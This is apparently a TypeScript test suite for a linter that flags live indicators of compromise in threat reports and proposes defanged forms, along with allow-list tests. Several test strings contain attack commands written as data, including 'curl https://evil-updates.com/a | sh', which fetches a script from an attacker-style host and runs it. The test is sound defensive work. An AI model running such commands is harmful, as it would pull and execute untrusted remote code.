import assert from "node:assert/strict";
import { describe, it } from "mocha";
import { allowList, citableIndicators, readEntry } from "../../../src/lint/allowed-indicators.ts";
import { indicatorsIn } from "../../../src/lint/indicators.ts";
import { findingsIn, found } from "./findings.ts";

const list = (...lines: readonly string[]): string =>
  `## Indicators of compromise\n\n${lines.map((line) => `- ${line}\n`).join("")}`;

/** Text; what is found alive in it, with the fix. */
const cases: readonly (readonly [string, readonly string[]])[] = [
  // Addresses count wherever they stand.
  ["It beaconed to 45.77.1.9 on port 443.", ["45.77.1.9 → 45.77.1[.]9"]],
  ["They ran `curl http://45.77.1.9:8080/x.sh`.", ["http://45.77.1.9:8080/x.sh → hxxp://45.77.1[.]9:8080/x.sh"]],
  ["The network 45.77.1.0/24 is theirs.", ["45.77.1.0 → 45.77.1[.]0"]],
  [
    "It used 2a01:4f8:c17:b8f::2 and 2001:470:1f0b::1.",
    ["2a01:4f8:c17:b8f::2 → 2a01:4f8:c17:b8f:[:]2", "2001:470:1f0b::1 → 2001:470:1f0b:[:]1"],
  ],
  ["They asked http://[2a01:4f8::2]:8080/a.", ["http://[2a01:4f8::2]:8080/a → hxxp://[2a01:4f8:[:]2]:8080/a"]],
  ["ftp://45.77.1.9/a", ["ftp://45.77.1.9/a → ftp://45.77.1[.]9/a"]],
  // Nobody's addresses: private, shared, loop-back, link-local, documentation (RFC 5737, 3849, 9637), multicast, tests.
  ["10.0.0.1, 172.16.3.4, 192.168.1.1, 100.64.0.7, 127.0.0.1, 169.254.1.1, 224.0.0.1, 240.0.0.1", []],
  ["192.0.2.7, 198.51.100.7, 203.0.113.7, 198.18.0.9, 0.0.0.0, 255.255.255.255", []],
  ["2001:db8::7, 3fff::1, fe80::1, fc00::1, ff02::1, ::1, ::ffff:10.0.0.1", []],
  ["It asks 8.8.8.8, 1.1.1.1 and 2001:4860:4860::8888.", []],
  // Other things with colons, or with four numbers.
  ["At 12:30:45 the host 00:1A:2B:3C:4D:5E ran std::vector and Cafe::Bad.", []],
  ["Version 4.1.22.7, v1.2.3.4, build 10.0.19041.1, firmware 5.6.7.8 and FortiOS before 7.2.1.4", []],
  ["FortiOS 7.2.1.4 and earlier, AssemblyVersion=4.0.0.0, 6.1.0.0", []],
  ["See section 3.1.2.4 and OID 1.3.6.1, also 1.3.6.1.4.1.311.", []],
  ["Chrome/91.0.44.124 and lib-1.2.3.4-x86 and 1.2.3.4-beta", []],
  ["## 1.2.3.4 How they came\n\nBy mail.", []],
  ["| Product | Version |\n|---|---|\n| Contoso VPN | 9.1.22.3 |\n", []],
  ["256.1.2.3, 1.2.3, 45.77.01.9, 1.2.3.4.5", []],
  // Domains and URLs in lists of indicators.
  [
    list("evil-updates.com", "http://evil-updates.com/a.php"),
    ["evil-updates.com → evil-updates[.]com", "http://evil-updates.com/a.php → hxxp://evil-updates[.]com/a.php"],
  ],
  [
    list("HTTPS://User:pw@Evil-Updates.DE/x?u=http://b.com."),
    ["HTTPS://User:pw@Evil-Updates.DE/x?u=http://b.com → HxxPS://User:pw@Evil-Updates[.]DE/x?u=http://b.com"],
  ],
  [
    list("cdn.evil.co.uk", "xn--e1awd7f.xn--p1ai", "почта.рф", "evil.xyz:8443", "evil.top/path"),
    [
      "cdn.evil.co.uk → cdn.evil.co[.]uk",
      "xn--e1awd7f.xn--p1ai → xn--e1awd7f[.]xn--p1ai",
      "почта.рф → почта[.]рф",
      "evil.xyz → evil[.]xyz",
      "evil.top → evil[.]top",
    ],
  ],
  [
    "| Domain | First seen |\n|---|---|\n| evil-updates.com | 2024 |\n| updates.zip | 2024 |\n",
    ["evil-updates.com → evil-updates[.]com", "updates.zip → updates[.]zip"],
  ],
  ["| Type | Value |\n|---|---|\n| File name | update.com |\n", []],
  ["## Network infrastructure\n\n```\nevil-updates.com\n```\n", ["evil-updates.com → evil-updates[.]com"]],
  // What only looks like a domain.
  [list("install.sh", "update.zip", "Program.cs", "run.py", "libfoo.so", "readme.md", "main.rs", "x.properties"), []],
  [
    list("System.Net", "System.Net.Http", "Microsoft.Win32.TaskScheduler", "ASP.NET", "com.contoso.app", "os.name()"),
    [],
  ],
  [list("C:\\Windows\\win.com", "/usr/share/evil.com", "%TEMP%\\a.com", "$x.com"), []],
  [list("intruder@evil.com", "first.com@evil.org"), []],
  [
    list(
      "evil[.]com",
      "evil[.]co.uk",
      "cdn[.]evil.com",
      "evil.co[.]uk",
      "hxxp://evil.com/a",
      "hxxps://evil[.]com",
      "http://evil[.]com/a",
    ),
    [],
  ],
  [list("evil(.)com", "evil[dot]com", "http://<host>/a", "http://{c2}/a"), []],
  [list("mail.example.com", "c2.example", "host.local", "localhost", "a.invalid", "b.test"), []],
  [list("e.g. this", "It ended.So it did", "files.exe", "a.dll"), []],
  ["## Files\n\n- setup.com\n", []],
  // Elsewhere, where the sentence says that it was theirs.
  ["The implant beaconed to evil-updates.com.", ["evil-updates.com → evil-updates[.]com"]],
  [
    "It downloaded a script from https://evil-updates.com/a.",
    ["https://evil-updates.com/a → hxxps://evil-updates[.]com/a"],
  ],
  ["```sh\ncurl https://evil-updates.com/a | sh\n```", ["https://evil-updates.com/a → hxxps://evil-updates[.]com/a"]],
  ["FIN7 sent mails from evil-updates.com.", ["evil-updates.com → evil-updates[.]com"]],
  ["Victims were lured to http://evil-mail.top/login.", ["http://evil-mail.top/login → hxxp://evil-mail[.]top/login"]],
  ["It pulled the next stage from evil-files.xyz.", ["evil-files.xyz → evil-files[.]xyz"]],
  ["The loader redirects to evil-cdn.org.", ["evil-cdn.org → evil-cdn[.]org"]],
  ["The payload was hosted on evil-cdn.org.", ["evil-cdn.org → evil-cdn[.]org"]],
  // What others do with theirs.
  ["The vendor hosted a seminar at contoso.com, and staff of fabrikam.com came.", []],
  ["Write to us by mail, or join contoso.com.", []],
  ["Employees of contoso.com received mails.", []],
  ["See evil-updates.com and https://www.contoso.com/report.", []],
  ["A report at https://www.contoso.com/report says that it was malicious.", []],
  ["Visit contoso.com.", []],
  // References.
  ["## IOCs\n\nAs [Contoso](https://www.contoso.com/report) wrote.", []],
  ["## IOCs\n\n### References\n\n- https://www.contoso.com/report\n", []],
  ["## IOCs\n\n- https://attack.mitre.org/techniques/T1055 and https://nvd.nist.gov/vuln/detail/CVE-2021-44228\n", []],
  ["# Contoso hosts attacked\n\nThe site is contoso.com.", []],
  // To defang a label leaves its link alive.
  ["## IOCs\n\n- [evil-updates.com](http://evil-updates.com/)\n", ["evil-updates.com"]],
  // The report's own allow list, and where it is published.
  [
    "---\nattack: {allow: [evil-updates.com, 45.77.0.0/16]}\n---\n\n## IOCs\n\n- cdn.evil-updates.com\n- notevil-updates.com\n- 45.77.1.9\n- 45.78.1.9\n",
    ["notevil-updates.com → notevil-updates[.]com", "45.78.1.9 → 45.78.1[.]9"],
  ],
  [
    "---\nurl: https://blog.contoso.com/report\n---\n\n## IOCs\n\n- blog.contoso.com\n- contoso.com\n",
    ["contoso.com → contoso[.]com"],
  ],
];

describe("rule live-indicator", () => {
  for (const [text, expected] of cases) it(text, () => assert.deepEqual(found("live-indicator", text), expected));

  it("should let pass what the settings allow", () => {
    const text = list("evil-updates.com", "a.evil-updates.com", "45.77.1.9", "2a01:4f8::2", "other.org");
    assert.deepEqual(
      found("live-indicator", text, {
        allowedIndicators: ["*.evil-updates.com", "45.77.1.0/24", "2a01:4f8::/32", "nonsense !"],
      }),
      ["other.org → other[.]org"],
    );
  });

  it("should offer to allow a host in the report, and then find nothing", () => {
    const text = list("http://evil-updates.com/a", "45.77.1.9");
    const titles = findingsIn(text).map(({ choices }) => choices.map(({ title }) => title));
    assert.deepEqual(titles, [["Allow evil-updates.com in this report"], ["Allow 45.77.1.9 in this report"]]);
    let mended = text;
    for (let edit = findingsIn(mended)[0]?.choices[0]?.edit; edit; edit = findingsIn(mended)[0]?.choices[0]?.edit)
      mended = mended.slice(0, edit.start) + edit.text + mended.slice(edit.end);
    assert.equal(mended, `---\nattack: { allow: [evil-updates.com, 45.77.1.9] }\n---\n\n${text}`);
  });

  it("should find the same in a long line of words as in a short one, in linear time", () => {
    const noise = "a.b-c:d/".repeat(20_000);
    assert.deepEqual(
      indicatorsIn(`${noise} evil.com ${"x".repeat(50_000)} ${"1.".repeat(20_000)} ${"a:".repeat(20_000)}`)
        .map(({ words }) => words)
        .filter((words) => words === "evil.com"),
      ["evil.com"],
    );
  });
});

describe("allow list", () => {
  /** Entry; hosts that it allows; hosts that it does not. */
  const entries: readonly (readonly [string, readonly string[], readonly string[]])[] = [
    [
      "contoso.com",
      ["contoso.com", "a.b.contoso.com", "CONTOSO.com."],
      ["notcontoso.com", "contoso.com.evil.org", "com"],
    ],
    ["*.contoso.com", ["a.contoso.com", "contoso.com"], ["contoso.org"]],
    [".contoso.com", ["a.contoso.com"], ["contoso.org"]],
    ["contoso[.]com", ["contoso.com"], []],
    ["hxxps://www.contoso[.]com/path?x=1", ["www.contoso.com"], ["contoso.com"]],
    ["45.77.1.9", ["45.77.1.9"], ["45.77.1.90", "2a01::1"]],
    ["45.77.0.0/16", ["45.77.1.9"], ["45.78.1.9", "::ffff:45.77.1.9"]],
    ["2a01:4f8::/32", ["2a01:4f8::2"], ["2a01:4f9::2", "45.77.1.9"]],
    ["http://[2a01:4f8::2]/", ["2a01:4f8::2"], []],
  ];
  for (const [entry, allowed, refused] of entries)
    it(entry, () => {
      const { allows } = allowList([entry]);
      assert.deepEqual([...allowed, ...refused].filter(allows), allowed);
    });

  for (const nonsense of ["", "two words", "45.77.1.9/33", "45.77.1", "a..b", "-a.com", "/path"])
    it(`should not understand “${nonsense}”`, () => assert.equal(readEntry(nonsense), undefined));

  it("should hold only entries that make sense by default", () =>
    assert.deepEqual(
      citableIndicators.filter((entry) => !readEntry(entry)),
      [],
    ));

  it("should say what it does not understand in front matter", () =>
    assert.deepEqual(found("directive", "---\nattack: {allow: [contoso.com, two words]}\n---\n\nText.\n"), [
      "two words",
    ]));
});
